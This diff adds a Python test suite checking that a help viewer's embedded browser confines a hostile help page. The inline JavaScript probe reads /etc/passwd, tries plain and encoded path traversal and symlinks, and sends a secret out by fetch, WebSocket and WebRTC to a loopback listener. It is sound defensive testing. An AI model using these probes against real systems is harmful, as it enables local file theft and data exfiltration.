@@ -1,0 +1,192 @@
+"""A help set from a stranger: its pages read nothing outside it, send nothing anywhere, open no
+windows and no question form by themselves, and web links go to the desktop's opener."""
+
+import os
+import shutil
+import socket
+import stat
+import subprocess
+import tempfile
+import threading
+import time
+
+from harness import DEMO_PACK, QUESTION, ProgramTest
+
+PNG = subprocess.run(["convert", "-size", "4x4", "xc:red", "png:-"], capture_output=True, check=True).stdout
+
+# Each probe notes "LEAK" when it got through; the findings end up in the page's title.
+HOSTILE = """<html><head><title>probing</title><script>
+const results = {};
+const note = (name, leaked) => { results[name] = leaked ? 'LEAK' : 'ok'; };
+const image = (name, src) => new Promise(done => {
+  const i = new Image();
+  i.onload = () => { note(name, true); done(); };
+  i.onerror = () => { note(name, false); done(); };
+  i.src = src;
+});
+const script = (name, src) => new Promise(done => {
+  const s = document.createElement('script');
+  s.onload = s.onerror = () => { note(name, window.secretRan === true); done(); };
+  s.src = src;
+  document.head.appendChild(s);
+});
+const read = async (name, url) => {
+  try { note(name, (await (await fetch(url)).text()).includes('SECRET')); } catch (e) { note(name, false); }
+};
+const request = (name, url) => new Promise(done => {
+  const x = new XMLHttpRequest();
+  x.onload = () => { note(name, x.responseText.includes('SECRET')); done(); };
+  x.onerror = () => { note(name, false); done(); };
+  try { x.open('GET', url); x.send(); } catch (e) { note(name, false); done(); }
+});
+const frame = (name, url) => new Promise(done => {
+  const f = document.createElement('iframe');
+  const finish = () => {
+    let text = '';
+    try { text = f.contentDocument.body.innerText; } catch (e) {}
+    note(name, text.includes('SECRET'));
+    done();
+  };
+  f.onload = finish;
+  setTimeout(finish, 3000);
+  f.src = url;
+  document.body.appendChild(f);
+});
+const websocket = (name, url) => new Promise(done => {
+  try {
+    const w = new WebSocket(url);
+    w.onopen = () => { note(name, true); done(); };
+    w.onerror = () => { note(name, false); done(); };
+  } catch (e) { note(name, false); done(); }
+});
+const rtc = async name => {
+  try {
+    const pc = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:PORT'},
+        {urls: 'turn:127.0.0.1:PORT?transport=tcp', username: 'u', credential: 'c'}]});
+    pc.createDataChannel('out');
+    await pc.setLocalDescription(await pc.createOffer());
+    await new Promise(wait => setTimeout(wait, 3000));
+  } catch (e) {}
+  note(name, false);  // the listener tells whether anything arrived
+};
+window.onload = async () => {
+  const secret = 'file://OUTSIDE/secret';
+  await image('control', 'inside.png');
+  results.control = results.control === 'LEAK' ? 'loaded' : 'missing';
+  await Promise.all([
+    read('fetch-file', secret + '.txt'), request('xhr-file', secret + '.txt'),
+    frame('frame-file', secret + '.html'), image('image-file', secret + '.png'),
+    request('xhr-passwd', 'file:///etc/passwd'),
+    image('image-link', 'link.png'), script('script-link', 'link.js'), frame('frame-link', 'link.html'),
+    image('image-up', '../outside/secret.png'), script('script-up', '../outside/secret.js'),
+    image('image-encoded-up', '%2e%2e/outside/secret.png'),
+    script('script-encoded-up', '%2E%2E/outside/secret.js'),
+    read('fetch-web', 'http://127.0.0.1:PORT/f?pw=SECRET'), image('image-web', 'http://127.0.0.1:PORT/i.png'),
+    websocket('websocket', 'ws://127.0.0.1:PORT/ws?pw=SECRET'), rtc('webrtc')]);
+  results.opened = window.open('other.html') ? 'LEAK' : 'ok';
+  document.title = 'DONE ' + Object.keys(results).sort().map(k => k + '=' + results[k]).join(' ');
+  setInterval(() => { location.href = 'ask_class.html'; }, 200);
+};
+</script></head><body><p>Nothing to see.</p></body></html>
+"""
+
+
+class Listener:
+    """A TCP and a UDP socket on one loopback port that note whatever reaches them."""
+
+    def __init__(self):
+        self.tcp = socket.socket()
+        self.tcp.bind(("127.0.0.1", 0))
+        self.tcp.listen(8)
+        self.tcp.settimeout(0.2)
+        self.port = self.tcp.getsockname()[1]
+        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        self.udp.bind(("127.0.0.1", self.port))
+        self.udp.settimeout(0.2)
+        self.heard = []
+        self.running = True
+        self.thread = threading.Thread(target=self.listen, daemon=True)
+        self.thread.start()
+
+    def listen(self):
+        while self.running:
+            for sock, receive in ((self.tcp, lambda: self.tcp.accept()[0].recv(4096)),
+                                  (self.udp, lambda: self.udp.recvfrom(4096)[0])):
+                try:
+                    self.heard.append((sock.type, receive() or b"(a connection)"))
+                except (socket.timeout, OSError):
+                    pass
+
+    def close(self):
+        self.running = False
+        self.thread.join(timeout=5)
+        self.tcp.close()
+        self.udp.close()
+
+
+class ConfinementTest(ProgramTest):
+    window_manager = False
+
+    def help_set(self, index_body):
+        root = tempfile.mkdtemp(prefix="lumora-hostile-")
+        self.addCleanup(shutil.rmtree, root, True)
+        help_folder, outside = os.path.join(root, "help"), os.path.join(root, "outside")
+        os.makedirs(help_folder)
+        os.makedirs(outside)
+        shutil.copyfile(DEMO_PACK, os.path.join(help_folder, "english.qlp"))
+        for name, content in (("secret.txt", b"SECRET"), ("secret.html", b"<p>SECRET</p>"), ("secret.png", PNG),
+                              ("secret.js", b"window.secretRan = true;")):
+            with open(os.path.join(outside, name), "wb") as f:
+                f.write(content)
+        for name in ("png", "js", "html"):
+            os.symlink(os.path.join(outside, "secret." + name), os.path.join(help_folder, "link." + name))
+        for name, content in (("index.html", index_body.encode()), ("inside.png", PNG),
+                              ("other.html", b"<title>other</title>"), ("ask_class.html", b"<title>ask</title>")):
+            with open(os.path.join(help_folder, name), "wb") as f:
+                f.write(content)
+        return help_folder, outside
+
+    def test_a_hostile_page_reads_nothing_outside_and_sends_nothing(self):
+        listener = Listener()
+        self.addCleanup(listener.close)
+        help_folder, outside = self.help_set("")
+        page = HOSTILE.replace("PORT", str(listener.port)).replace("OUTSIDE", outside)
+        with open(os.path.join(help_folder, "index.html"), "w", encoding="utf-8") as f:
+            f.write(page)
+        self.launch([os.path.join(help_folder, "english.qlp")])
+        report = self.wait(lambda r: r["title"].startswith("DONE"), "the page's findings", 90)
+        findings = dict(item.split("=") for item in report["title"].split()[1:])
+        self.assertEqual(findings.pop("control"), "loaded", "a picture of the help set itself must load")
+        self.assertEqual({name for name, found in findings.items() if found != "ok"}, set(), findings)
+        self.assertEqual(len(findings), 17)
+        time.sleep(3)  # the script keeps asking for the question form meanwhile
+        report = self.lumora.report()
+        self.assertNotEqual(report["page"], QUESTION)
+        self.assertEqual(report["history"], [os.path.join(help_folder, "index.html").lower()])
+        self.assertEqual(listener.heard, [])
+        # The engine cannot keep its sandbox as root, and says so once.
+        unsandboxed = os.geteuid() == 0 or "QTWEBENGINE_DISABLE_SANDBOX" in os.environ
+        self.assertEqual(self.lumora.log_text().count("without the browser engine's sandbox"), int(unsandboxed))
+
+    def test_a_clicked_web_link_goes_to_the_desktop(self):
+        help_folder, _ = self.help_set('<title>home</title><body style="margin:0">'
+                                       '<a href="https://example.org/manual?x=1" style="display:block;'
+                                       'height:2000px">the manual</a></body>')
+        tools = tempfile.mkdtemp(prefix="lumora-opener-")
+        self.addCleanup(shutil.rmtree, tools, True)
+        opened = os.path.join(tools, "opened")
+        opener = os.path.join(tools, "xdg-open")
+        with open(opener, "w", encoding="ascii") as f:
+            f.write(f'#!/bin/sh\nprintf "%s\\n" "$1" >> {opened}\n')
+        os.chmod(opener, os.stat(opener).st_mode | stat.S_IEXEC)
+        self.launch([os.path.join(help_folder, "english.qlp")], env={"PATH": tools + os.pathsep + os.environ["PATH"]})
+        report = self.wait(lambda r: r["title"] == "home" and not r["loading"], "the home page")
+        x, y, w, h = report.on_screen("WebBrowser(0)")
+        self.display.click(x + w // 2, y + h // 2)
+        deadline = time.monotonic() + 30
+        while not os.path.exists(opened) and time.monotonic() < deadline:
+            time.sleep(0.2)
+        with open(opened, encoding="ascii") as f:
+            self.assertEqual(f.read(), "https://example.org/manual?x=1\n")
+        report = self.lumora.report()
+        self.assertEqual((report["title"], report["history"]), ("home", [os.path.join(help_folder, "index.html").lower()]))
